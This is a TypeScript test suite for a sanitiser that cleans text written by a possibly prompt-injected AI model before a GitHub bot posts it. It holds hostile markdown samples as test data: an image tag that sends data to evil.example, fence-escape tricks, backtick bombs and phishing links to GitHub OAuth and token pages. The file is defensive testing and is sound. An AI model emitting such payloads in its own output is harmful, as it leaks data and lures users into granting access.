// What steward posts when the model is prompt-injected: hostile summaries and plans run through the
// report renderer (the tracking comment and the step summary), and every body read by parsers steward
// does not use — commonmark.js and GitHub's own cmark-gfm — which must find nothing live in it. One
// table per class of the second outside review (issue 21): 1, quoted text escaping its fence; 2, text
// that made the report crash or hide its diff; 6, links to github.com pages that are not a repository's.
// Then a fuzz of the sanitiser against the same parsers.
import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { trackingMarker } from "../../src/report/marker";
import { sanitizeModelMarkdown, MAX_INPUT, OUTPUT_FACTOR, OUTPUT_SLACK } from "../../src/report/sanitize";
import type { RunState } from "../../src/report/state";
import { renderStepSummary } from "../../src/report/step-summary";
import { renderTrackingComment } from "../../src/report/tracking-comment";
import {
  cmarkGfmAvailable,
  cmarkGfmRequired,
  referenceProblems,
  renderedAheadRun,
  renderWithCmarkGfmAhead,
} from "./support/reference-render";
import { bigDiff, smallDiff, state } from "./support/states";

const COMMENT_LIMIT = 65_536;
const STEP_SUMMARY_LIMIT = 1_048_576;

/** steward's own HTML lines (its marker, its <details> wrappers) blanked: they are meant to be HTML. */
const withoutOwnHtml = (body: string) =>
  body
    .split("\n")
    .map((line) =>
      /^<!-- steward:tracking key=[^ ]+ -->$/.test(line) || line === "</details>"
        ? ""
        : line.replace(/^<details(?: open)?><summary>[^<]*<\/summary>$/, ""),
    )
    .join("\n");

function finished(final: Partial<NonNullable<RunState["final"]>>): RunState {
  const base = state("done");
  return { ...base, final: { ...(base.final as NonNullable<RunState["final"]>), ...final } };
}

/** The tracking comment alone, where only it is checked: each report sanitises the model's text anew. */
const commentOf = (final: Partial<NonNullable<RunState["final"]>>) =>
  renderTrackingComment(finished(final), { marker: trackingMarker("issue-12/mention") });

function reports(final: Partial<NonNullable<RunState["final"]>>) {
  return { comment: commentOf(final), summary: renderStepSummary(finished(final)) };
}

it("has cmark-gfm to read with (CI installs it; elsewhere: apt-get install cmark-gfm)", () => {
  if (cmarkGfmRequired) expect(cmarkGfmAvailable).toBe(true);
});

const EXFILTRATE = '<img src="https://evil.example/x.png?leak=DATA">';

describe("class 1: quoted text cannot escape its fence", () => {
  const rows: [string, string][] = [
    ["a tab before the closing fence, then HTML", `\`\`\`\n\t\`\`\`\n${EXFILTRATE}`],
    ["a tab before a closing ~~~", `~~~\n\t~~~\n${EXFILTRATE}`],
    ["a space and a tab before the closing fence", `\`\`\`\n \t\`\`\`\n${EXFILTRATE}`],
    [
      "links, a team mention and a bare URL after the fence",
      "```\n\t```\n[Approve](https://evil.example/a) @octo/everyone https://evil.example/p www.evil.example",
    ],
    ["inside a list item", `- \`\`\`\n\t\`\`\`\n  ${EXFILTRATE}\n  [x](https://evil.example)`],
    ["inside the model's own quote", `> \`\`\`\n>\t\`\`\`\n> ${EXFILTRATE}`],
    [
      "an HTML block the fence seemed to hide",
      "```\n\t```\n<div>\n\n<a href=https://evil.example>x</a>\n\n</div>",
    ],
    ["an unclosed fence that would swallow the report", "```\n\t```\n```"],
    ["a mermaid fence after the escape", '```\n\t```\n```mermaid\nclick A "https://evil.example"\n```'],
  ];
  // cmark-gfm reads every body of the table in one process, not one process a body.
  beforeAll(() =>
    renderWithCmarkGfmAhead(
      rows.flatMap(([, text]) =>
        [reports({ summary: text }), reports({ plan: text })].flatMap((r) =>
          Object.values(r).map(withoutOwnHtml),
        ),
      ),
    ),
  );
  it.each(rows)("summary: %s", (_name, summary) => {
    for (const body of Object.values(reports({ summary }))) {
      expect(referenceProblems(withoutOwnHtml(body))).toEqual([]);
      expect(body).toContain("**Files changed:**");
      expect(body).toContain("+  return splitFields(text);");
    }
  });
  it.each(rows)("plan: %s", (_name, plan) => {
    for (const body of Object.values(reports({ plan }))) {
      expect(referenceProblems(withoutOwnHtml(body))).toEqual([]);
      expect(body).toContain("+  return splitFields(text);");
    }
  });
});

/**
 * One long backtick run, then backtick runs of every length between short link-like tokens. Each
 * neutralised token once got a code-span fence longer than the longest run in the text: 190,000
 * characters of this grew past what a string can hold.
 */
function backtickBomb(length: number): string {
  const parts = ["`".repeat(Math.floor(length / 3)), " "];
  let size = 0;
  for (let i = 0; size < length; i++) {
    const part =
      i % 10 === 0 ? `${"`".repeat((i % 97) + 1)} https://e${String(i)}.example/ [a](//x.example) ` : "//a ";
    parts.push(part);
    size += part.length;
  }
  return parts.join("").slice(0, length);
}

describe("class 2: the report always appears, bounded, with its diff", () => {
  const rows: [string, string][] = [
    ["190,000 characters of backtick runs and link-like tokens", backtickBomb(190_000)],
    ["20,000 characters of the same", backtickBomb(20_000)],
    ["20,000 characters of links to neutralise", "[x](https://evil.example/a) ".repeat(750)],
    ["20,000 characters of HTML", "<img src=x>".repeat(1_900)],
    ["a megabyte on one line", backtickBomb(1_048_576)],
  ];
  it.each(rows)("%s", (_name, summary) => {
    const started = performance.now();
    const { comment, summary: stepSummary } = reports({ summary, plan: summary, diff: smallDiff });
    expect(performance.now() - started).toBeLessThan(20_000);
    expect(comment.length).toBeLessThanOrEqual(COMMENT_LIMIT);
    expect(Buffer.byteLength(stepSummary)).toBeLessThanOrEqual(STEP_SUMMARY_LIMIT);
    for (const body of [comment, stepSummary]) {
      expect(body).toContain("+  return splitFields(text);");
      expect(body).toContain("**Summary**");
    }
  });

  it("gives way with the summary before the diff: a long summary is shortened and the whole diff shown", () => {
    const diff = bigDiff(10, 2, 40);
    const comment = commentOf({ summary: backtickBomb(20_000), diff });
    expect(comment).toContain("the summary was shortened");
    expect(comment).not.toContain("the diff of");
    expect(comment).toContain(diff.split("\n").at(-2) ?? "");
  });

  it("keeps the sanitised text within a stated factor of its input", () => {
    const hostile = fc.array(
      fc.constantFrom("![](a)", "<", "&", "@a", "[x](https://evil.example)", "`", "``", "a@b.co", "|", "\n"),
      { maxLength: 400 },
    );
    fc.assert(
      fc.property(hostile, (parts) => {
        const text = parts.join("");
        expect(sanitizeModelMarkdown(text, { allowedHosts: ["github.com"] }).length).toBeLessThanOrEqual(
          OUTPUT_FACTOR * text.length + OUTPUT_SLACK,
        );
      }),
      { numRuns: 200 },
    );
    const long = backtickBomb(MAX_INPUT * 3);
    expect(sanitizeModelMarkdown(long, { allowedHosts: ["github.com"] }).length).toBeLessThanOrEqual(
      OUTPUT_FACTOR * MAX_INPUT + OUTPUT_SLACK,
    );
  });
});

describe("class 6: only a repository's pages on github.com stay live", () => {
  const neutralised: string[] = [
    "[Approve here](https://github.com/login/oauth/authorize?client_id=Iv1.evil&scope=repo)",
    "https://github.com/login/oauth/authorize?client_id=Iv1.evil",
    "<https://github.com/login/device>",
    "[x](https://github.com/settings/tokens/new?scopes=repo)",
    "[x](https://github.com/apps/evil-app/installations/new)",
    "[x](https://github.com/sponsors/mallory)",
    "[x](https://github.com/marketplace/evil)",
    "[x](https://github.com/organizations/octo/settings/apps)",
    "[x](https://github.com/octo/app/settings/secrets/actions)",
    "[x](https://github.com/octo/app/invitations)",
    "[x](/login/oauth/authorize?client_id=x)",
    "[x](../../../login)",
    "[x](https://GitHub.com/%6Cogin)",
    "![x](https://github.com/settings/profile)",
  ];
  beforeAll(() =>
    renderWithCmarkGfmAhead(
      neutralised.flatMap((summary) => Object.values(reports({ summary })).map(withoutOwnHtml)),
    ),
  );
  it.each(neutralised)("%s", (summary) => {
    for (const body of Object.values(reports({ summary }))) {
      expect(referenceProblems(withoutOwnHtml(body))).toEqual([]);
      expect(body).not.toMatch(
        /\]\((?:https:\/\/github\.com)?\/(?:login|settings|apps|sponsors|marketplace)/i,
      );
    }
  });

  const kept: string[] = [
    "[the upstream issue](https://github.com/other/lib/issues/5)",
    "[run](https://github.com/octo/app/actions/runs/42)",
    "[file](https://github.com/octo/app/blob/main/src/a.ts#L3)",
    "[compare](https://github.com/octo/app/compare/main...steward/x)",
    "[release](https://github.com/octo/app/releases/tag/v1.2.0)",
    "[docs](https://docs.github.com/en/actions/using-workflows)",
    "[a file](src/a.ts)",
    "https://github.com/octo/app/pull/13",
  ];
  it.each(kept)("%s", (summary) => {
    const comment = commentOf({ summary });
    expect(comment).toContain(`> ${summary}`);
  });
});

describe("fuzz: nothing the sanitiser writes is live for commonmark.js or cmark-gfm", () => {
  const fragments = fc.constantFrom(
    "```",
    "~~~",
    "````",
    "\t```",
    " \t```",
    "\t~~~",
    "  ```",
    "```mermaid",
    "`",
    "``",
    "\n",
    "\n\n",
    "\t",
    "    ",
    "> ",
    ">\t",
    "- ",
    "1. ",
    "  ",
    "| - |",
    "|",
    EXFILTRATE,
    "<img src=x>",
    "<div>",
    "</div>",
    "<!-- x -->",
    "<a href=https://evil.example>",
    "[x](https://evil.example)",
    "![x](https://evil.example/p.png)",
    "[r]: https://evil.example",
    "[r]",
    "](",
    "[",
    "]",
    "<https://evil.example>",
    "https://evil.example/?q=S",
    "www.evil.example",
    "a@evil.example",
    "@octo/everyone",
    "@alice",
    "\\",
    "&#104;ttps://evil.example",
    "&lt;",
    "https://github.com/login/oauth/authorize?x",
    "[ok](https://github.com/octo/app/pull/1)",
    "text",
  );
  const documents = fc.array(fragments, { maxLength: 30 }).map((parts) => parts.join(""));

  const sanitized = (text: string) => sanitizeModelMarkdown(text, { allowedHosts: ["github.com"] });
  const quoted = (summary: string) => withoutOwnHtml(commentOf({ summary }));

  it("as a pull request body (top level)", () => {
    const { params, markdownOf } = renderedAheadRun(documents, sanitized, 250);
    fc.assert(
      fc.property(documents, (text) => {
        expect(referenceProblems(markdownOf(text))).toEqual([]);
      }),
      params,
    );
  });

  it("as the tracking comment's quoted summary", () => {
    const { params, markdownOf } = renderedAheadRun(documents, quoted, 150);
    fc.assert(
      fc.property(documents, (summary) => {
        expect(referenceProblems(markdownOf(summary))).toEqual([]);
      }),
      params,
    );
  });
});
